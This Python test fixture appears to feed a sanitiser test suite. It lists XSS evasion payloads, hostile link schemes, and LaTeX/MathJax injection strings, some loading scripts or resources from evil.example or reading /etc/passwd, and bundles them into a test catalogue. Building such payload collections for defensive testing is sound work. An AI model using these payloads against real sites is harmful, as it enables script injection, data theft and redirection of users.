r"""Texts that get past sanitisers, each a trick of a known class, and a list of them all.

Like those of `hostile` they set `window.pwned`, open a dialog or ask another host.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from typing import Any

from reading_graph import characters

from support import traits

EVASIONS = (
    # Tags that are written oddly
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script\t\n>window.pwned=1</script\n>",
    "<script/x>window.pwned=1</script/y>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<<script>window.pwned=1//<</script>",
    "<script>window.pwned=1",
    "<script src=//evil.example/x.js",
    "<script src=\"https://evil.example/x.js\" async></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<svg><script>window.pwned&#61;1</script></svg>",
    "<svg><script href=data:,window.pwned=1 />",
    "</p><script>window.pwned=1</script><p>",
    "\"'`></script><script>window.pwned=1</script>",
    "< script>window.pwned=1</ script> <\nscript>window.pwned=1</script>",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;lt;script&amp;gt;window.pwned=1",
    "&#x3c;script&#x3e;window.pwned=1&#x3c;/script&#x3e; &#0000060;img src onerror=pwned=1&#62;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E \\u003cscript\\u003ewindow.pwned=1",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:window.pwned=1'?>",
    "<![CDATA[<script>window.pwned=1</script>]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    # Attributes that run
    "<img src=x onerror=window.pwned=1>",
    "<IMG SRC=x OnErRoR = 'window.pwned=1'//>",
    "<img/src/onerror=window.pwned=1>",
    "<img src=x:x onerror=\u00a0window.pwned=1>",
    "<img src=`x` onerror=`window.pwned=1`>",
    "<img src=x \"><img src=x onerror=window.pwned=1>\"",
    "<img alt='<x' title='/><img src=x onerror=window.pwned=1>'>",
    "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
    "<picture><source srcset=https://evil.example/a.webp><img></picture>",
    "<body onload=window.pwned=1> <body background=https://evil.example/b.png>",
    "<input autofocus onfocus=window.pwned=1> <select autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1> <summary onclick=window.pwned=1>x",
    "<video autoplay onloadstart=window.pwned=1><source onerror=window.pwned=1></video>",
    "<audio src=https://evil.example/a.ogg autoplay> <video poster=https://evil.example/p.png>",
    "<marquee onstart=window.pwned=1>x</marquee> <isindex type=image onerror=window.pwned=1>",
    "<div style=animation-name:x onanimationstart=window.pwned=1>x</div>",
    "<div onpointerover=window.pwned=1 style='position:fixed;inset:0'>x</div>",
    "<a href=x onclick=window.pwned=1 accesskey=x tabindex=1 autofocus>x</a>",
    "<p popover id=pop onbeforetoggle=window.pwned=1><button popovertarget=pop>x</button>",
    # Elements that load, send or lead away
    "<iframe src=javascript:parent.pwned=1></iframe> <iframe src=//evil.example>",
    "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
    "<object data=data:text/html,<script>parent.pwned=1</script>></object>",
    "<embed src=//evil.example/x.swf> <applet code=x codebase=//evil.example>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0; url=javascript:window.pwned=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/x.css> <link rel=prefetch href=//evil.example/>",
    "<link rel=import href=//evil.example/x.html> <link rel=dns-prefetch href=//evil.example>",
    "<form action=javascript:window.pwned=1><input type=submit formaction=//evil.example></form>",
    "<form id=x></form><button form=x formaction=javascript:window.pwned=1>x</button>",
    "<frameset onload=window.pwned=1><frame src=javascript:window.pwned=1></frameset>",
    "<portal src=//evil.example> <fencedframe> <webview src=//evil.example>",
    "<dialog open><form method=dialog action=//evil.example><button>x</button></form></dialog>",
    "<a href=//evil.example ping=//evil.example/ping target=_top>x</a>",
    "<area href=javascript:window.pwned=1 shape=default> <map name=m>",
    # What one parser reads otherwise than the next
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "<noembed><p title='</noembed><img src=x onerror=window.pwned=1>'>",
    "<textarea><p title='</textarea><img src=x onerror=window.pwned=1>'>",
    "<title><a title='</title><img src=x onerror=window.pwned=1>'>",
    "<xmp><p title='</xmp><img src=x onerror=window.pwned=1>'>",
    "<plaintext><p title='x'> <listing>&lt;img src=x onerror=window.pwned=1&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph>",
    "<math><mi><mglyph><svg><mtext><style><a title='</style><img src onerror=pwned=1>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=window.pwned=1>",
    "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>pwned=1</script>",
    "<math href=javascript:window.pwned=1><mi xlink:href=javascript:window.pwned=1>x</mi></math>",
    "<math><maction actiontype=statusline#javascript:window.pwned=1>x</maction></math>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=window.pwned=1>'>",
    "<svg><desc><img src=x onerror=window.pwned=1></desc></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<svg><a xlink:href=javascript:window.pwned=1><rect width=99 height=99 /></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned=1>#x'></svg>",
    "<svg><animate attributeName=href values=javascript:window.pwned=1 begin=0s></svg>",
    "<svg><set attributeName=onmouseover to=window.pwned=1></svg>",
    "<svg><image href=https://evil.example/x.png onload=window.pwned=1 /></svg>",
    "<table><td><form><table></form><form></table></form><img src=x onerror=window.pwned=1>",
    "<select><template><style></select><img src=x onerror=window.pwned=1></template>",
    "<template shadowrootmode=open><script>window.pwned=1</script></template><slot>",
    "<a><b></a></b><p><table><a><tr><td><a><img src=x onerror=window.pwned=1>",
    "<x" + "><x" * 300 + "><img src=x onerror=window.pwned=1>",
    "<!--><img src=x onerror=window.pwned=1>--> <!---><script>window.pwned=1</script>",
    "<!-- --!><img src=x onerror=window.pwned=1> <!-- ` --> <!x> </x y=1>",
    "<!--[if gte IE 4]><script>window.pwned=1</script><![endif]-->",
    "<comment><img src='</comment><img src=x onerror=window.pwned=1>'>",
    # Names that stand for something else
    "<form id=document><input name=cookie></form> <img name=body> <a id=location href=x>",
    "<a id=__config href=javascript:pwned=1></a><a id=__config name=base href=//evil.example>",
    "<form name=getElementById><input name=attributes><input name=parentNode></form>",
    "<object id=__search name=__md_scope></object> <div id=__drawer> <p id=_top>",
    "<div data-md-component=search><input data-md-component=search-query></div>",
    "<p class='md-search md-overlay' style='position:fixed;inset:0;z-index:999'>",
    # Style
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/b) }</style>",
    "<p style=\"background:url('//evil.example/b')\">x</p> <p style=width:expression(pwned=1)>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x); behavior:url(x.htc)'>x</p>",
    # Templates and other languages of those who write pages
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {%- include '/etc/passwd' -%} {#- x -#}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.pwned=1')()}} [[${7*7}]]",
    "{% raw %}<script>window.pwned=1</script>{% endraw %} {{ super() }} {{ self }}",
    # Markdown of other dialects
    "[a]\n\n[a]: <javascript:window.pwned=1> \"x\" onmouseover=\"window.pwned=1\"",
    "[a](https://example.org/ \"x\\\" onmouseover=window.pwned=1 \\\"\")",
    "[a](https://example.org/ 'x\"><img src=x onerror=window.pwned=1>')",
    "[![a](x \"onerror=window.pwned=1\")](javascript:window.pwned=1)",
    "[a[b](javascript:window.pwned=1)](https://example.org/\"onclick=\"window.pwned=1)",
    "[<img src=x onerror=window.pwned=1>](https://example.org/) [](javascript:window.pwned=1)",
    "[a](javas\ncript:window.pwned=1) [b](<java\nscript:window.pwned=1>)",
    "[a](https://example.org/\u00a0onclick=window.pwned=1) [b]( javascript:window.pwned=1 )",
    "<https://example.org/\"onmouseover=\"window.pwned=1> <https://example.org/<script>>",
    "<javascript:window.pwned=1> <JAVASCRIPT:window.pwned=1> <data:text/html,x> <x@y.z?onclick=1>",
    "https://evil.example/\"><img/src=x/onerror=window.pwned=1> www.evil.example evil@evil.example",
    "```\"><script>window.pwned=1</script>\nx\n```",
    "```html onload=window.pwned=1 title=\"</code><script>window.pwned=1</script>\"\nx",
    "~~~{=html}\n<script>window.pwned=1</script>\n~~~",
    "`` ` </code><script>window.pwned=1</script> ``",
    "    </code></pre><script>window.pwned=1</script>",
    "| a |\n|-|\n| <img src=x onerror=window.pwned=1> |\n| \\| `\\|` </td></tr></table><script> |",
    "| <!-- | --> |\n|---|---|\n| <script> | </script> |",
    "- <script>\n- window.pwned=1\n- </script>\n\n1. <!--\n2. -->",
    "> <script>\n> window.pwned=1\n> </script>",
    "a {: onclick=window.pwned=1 style=position:fixed } {:.md-search}\n{: #__search }",
    "*a*{: onmouseover=window.pwned=1 } `b`{: #evil } [c](#p0){: target=_blank }",
    "!!! danger inline end \"<script>window.pwned=1</script>\"\n    ??? x\n        !!! y",
    "--8<-- \"https://evil.example/x.md\"\n\n;--8<--\n\n-8<- \"../mkdocs.yml\" {!/etc/passwd!}",
    "<div markdown=block>\n*x* <script>window.pwned=1</script>\n</div>",
    "<p markdown='1' onclick=window.pwned=1>x</p> <iframe markdown=span src=//evil.example>",
    ":evil: :material-account: ++ctrl+alt++ [=45% \"x\"] {--x--} {++<script>++} {>>x<<}",
    "^[<script>window.pwned=1</script>] [^x] \n\n[^x]: <img src=x onerror=window.pwned=1>",
    "*[x]: \"><script>window.pwned=1</script>\n\nx",
    "Term\n:   <script>window.pwned=1</script>\n:   {: onclick=window.pwned=1 }",
    "- [ ] <input onfocus=window.pwned=1 autofocus>\n- [x] done",
    "<!-- md:option x --> <!-- more --> <!-- prettier-ignore --> [TOC] [[_TOC_]] [comment]: # (x)",
    "$`\\text{<script>window.pwned=1</script>}`$ \\[ <img src=x onerror=window.pwned=1> \\]",
    "\\<script>window.pwned=1\\</script> \\&lt;script&gt; &\\#60;script>",
    "\u2028<script>window.pwned=1</script>\u2029 \x00<scr\x00ipt>window.pwned=1</script>",
)  # fmt: skip
"""Notes."""

LINK_TARGETS = (
    # javascript: in its spellings
    "javascript:window.pwned=1",
    "JAVASCRIPT:window.pwned=1",
    "jAvAsCrIpT:window.pwned=1",
    " javascript:window.pwned=1",
    "\tjavascript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "java\nscript:window.pwned=1",
    "java\rscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "\x1fjavascript:window.pwned=1",
    "java\x00script:window.pwned=1",
    "\u00a0javascript:window.pwned=1",
    "\u3000javascript:window.pwned=1",
    "javascript\u200b:window.pwned=1",
    "javascript :window.pwned=1",
    "javascript&colon;window.pwned=1",
    "javascript&#58;window.pwned=1",
    "javascript&#x0003A;window.pwned=1",
    "&#106;avascript:window.pwned=1",
    "&#x6A&#x61vascript:window.pwned=1",
    "java&Tab;script&NewLine;:window.pwned=1",
    "&Tab;javascript:window.pwned=1",
    "java&#9;script:window.pwned=1",
    "java&#0;script:window.pwned=1",
    "&#1;javascript:window.pwned=1",
    "javascript%3Awindow.pwned=1",
    "%6Aavascript:window.pwned=1",
    "java\\script:window.pwned=1",
    "javascript\\:window.pwned=1",
    "javascript://example.org/%0Awindow.pwned=1",
    "javascript://example.org/?&#10;window.pwned=1",
    "javascript:'<script>window.pwned=1</script>'",
    "javascript:javascript:window.pwned=1",
    "feed:javascript:window.pwned=1",
    "view-source:javascript:window.pwned=1",
    "jar:javascript:window.pwned=1!/",
    "url:javascript:window.pwned=1",
    "\u0458avascript:window.pwned=1",
    "javascript\uff1awindow.pwned=1",
    # Other schemes that run, read or send
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "DATA:,x",
    "data:image/svg+xml,<svg onload=window.pwned=1>",
    "data:image/png;base64,iVBORw0KGgo=",
    "vbscript:MsgBox(1)",
    "livescript:window.pwned=1",
    "blob:https://example.org/0",
    "filesystem:https://example.org/temporary/x.html",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "intent://evil.example/#Intent;scheme=https;end",
    "ms-msdt:/id x",
    "tel:112",
    "sms:112?body=x",
    "about:blank",
    "chrome://settings",
    "ws://evil.example/",
    # Other hosts that do not look so, and places of this one
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\x",
    "\\/\\/evil.example/",
    "/\t/evil.example/",
    "&#47;&#47;evil.example/",
    "http:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example/",
    "https:///evil.example",
    "https://example.org@evil.example/",
    "https://example.org:443@evil.example/",
    "https://ada:secret@evil.example/",
    "https://evil.example\\@example.org/",
    "https://[evil.example",
    "https://",
    "ht\ttps://evil.example/",
    "h&#9;ttps://evil.example/",
    "?q=<script>window.pwned=1</script>",
    "#__search",
    "#:~:text=x",
    "./",
    "../../../etc/passwd",
    "%2e%2e/x",
    "mailto:ada@example.org,eve@evil.example",
)  # fmt: skip
"""Addresses that no link may have."""

FORMULAS = (
    r"\text{<script>window.pwned=1</script>}",
    r"\text{<img src=x onerror=window.pwned=1>}",
    r"\text{</mtext></math><script>window.pwned=1</script>}",
    r"\mathrm{<iframe src=//evil.example>}",
    r"\mbox{&lt;script&gt;window.pwned=1&lt;/script&gt;}",
    r"\text{<![CDATA[<script>window.pwned=1</script>]]>}",
    r"\text{<!-- --><script>window.pwned=1</script>}",
    r"\text{<!--><img src=x onerror=window.pwned=1>-->}",
    r"\text{<?x ?><a href=//evil.example>x</a>}",
    r"\text{<math><mtext><style><img src=x onerror=window.pwned=1></style>}",
    r"\text{<annotation-xml encoding='text/html'><img src=x onerror=window.pwned=1>}",
    r"\text{\text{\text{<svg onload=window.pwned=1>}}}",
    r"\href{javascript:window.pwned=1}{x}",
    r"\href{data:text/html,<script>window.pwned=1</script>}{x}",
    r"\url{javascript:window.pwned=1}",
    r"\class{md-search}{x}",
    r"\cssId{__search}{x}",
    r"\style{position:fixed;inset:0}{x}",
    r"\htmlId{__search}{x} \htmlClass{evil}{x}",
    r"\htmlData{md-component=search}{x}",
    r"\htmlStyle{background:url(//evil.example/b)}{x}",
    r"\html{<script>window.pwned=1</script>}",
    r"\includegraphics{https://evil.example/x.png}",
    r"\require{action}\toggle{x}{y}\endtoggle",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\char60 script\char62",
    r"\input{/etc/passwd} \include{x} \openin\x=/etc/passwd",
    r"\def\x{\x\x}\x \newcommand{\y}{\y}\y \let\a\b",
    r"\write18{touch pwned} \immediate\write\x{y}",
    r"\color{red\" onmouseover=\"window.pwned=1}{x}",
    r"\textcolor{url(//evil.example/x)}{x} \colorbox{red}{x}",
    r'\hspace{1em" onmouseover="window.pwned=1} x',
    r'\mathbb{"onclick=window.pwned=1 x="}',
    r"\begin{array}{c\" onclick=\"window.pwned=1} x \end{array}",
    r"\begin{matrix} <script> & window.pwned=1 \\ </script> \end{matrix}",
    r"\begin{a}\begin{b}\begin{matrix} x \end{b}\end{matrix}\end{a}",
    r"\begin{matrix}" * 40 + "x" + r"\end{matrix}" * 40,
    "{" * 200 + "x" + "}" * 200,
    r"\frac" * 100,
    "x^" * 100 + "x",
    r"\left(" * 60 + "x",
    r"\sqrt[" * 60,
    "a & b && c &amp; &lt;script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "< > ' \" ` = / </math> </p> </div> -->",
    r"\unknown{<b>} \Unknown \@ \$ \# \% \_ \{ \} \\",
    r"x_{<img src=x onerror=window.pwned=1>}^{\style{x}{y}}",
    r"% a comment <script>window.pwned=1</script>",
    r"\operatorname{javascript:window.pwned=1}",
    r"\xrightarrow[javascript:]{<a href=javascript:window.pwned=1>x</a>}",
    r"\tag{<b>} \label{x} \ref{__search} \eqref{x}",
)  # fmt: skip


def links(target: str) -> Iterator[str]:
    """Notes with a link to an address, in each way that Markdown has."""
    yield f"[inline]({target})"
    yield f"[in angles](<{target}>)"
    yield f"[reference]\n\n[reference]: {target}"
    yield f'[full][1]\n\n[1]: <{target}> "title"'
    yield f"<{target}>"


def mathematics(formula: str) -> Iterator[str]:
    """Notes with a formula: in a line, in a line of its own, in a table."""
    yield f"${formula}$"
    yield f"$$\n{formula}\n$$"
    yield f"| a |\n|---|\n| ${formula}$ |"


LINKS = tuple(note for target in LINK_TARGETS for note in links(target))
MATHEMATICS = tuple(note for formula in FORMULAS for note in mathematics(formula))


def _document() -> dict[str, Any]:
    """A paper for each note that may stand in a list, of links and formulas for ten together; then
    those of `traits`.
    """
    links, formulas = (_together(list(_allowed(some)), 10) for some in (LINKS, MATHEMATICS))
    notes = [*_allowed(EVASIONS), *links, *formulas]
    return {
        "title": "Whatever evades",
        "summary": notes[0],
        "sections": [
            {"id": f"s{number}", "title": f"Section {number}", "summary": notes[number]}
            for number in range(-(-len(notes) // 16))
        ]
        + [traits.SECTION],
        "papers": [
            {
                "id": f"p{number}",
                "title": f"Paper {number} by its number",
                "section": f"s{number // 16}",
                "authors": ["Ada Krume"],
                "notes": note,
            }
            for number, note in enumerate(notes)
        ]
        + traits.papers(),
    }


def _allowed(notes: Iterable[str]) -> Iterator[str]:
    return (note for note in notes if not characters.refused_in_value.search(note))


def _together(notes: list[str], count: int) -> Iterator[str]:
    for first in range(0, len(notes), count):
        yield "\n\n".join(notes[first : first + count])


DOCUMENT = _document()
CATALOGUE = json.dumps(DOCUMENT, ensure_ascii=False)
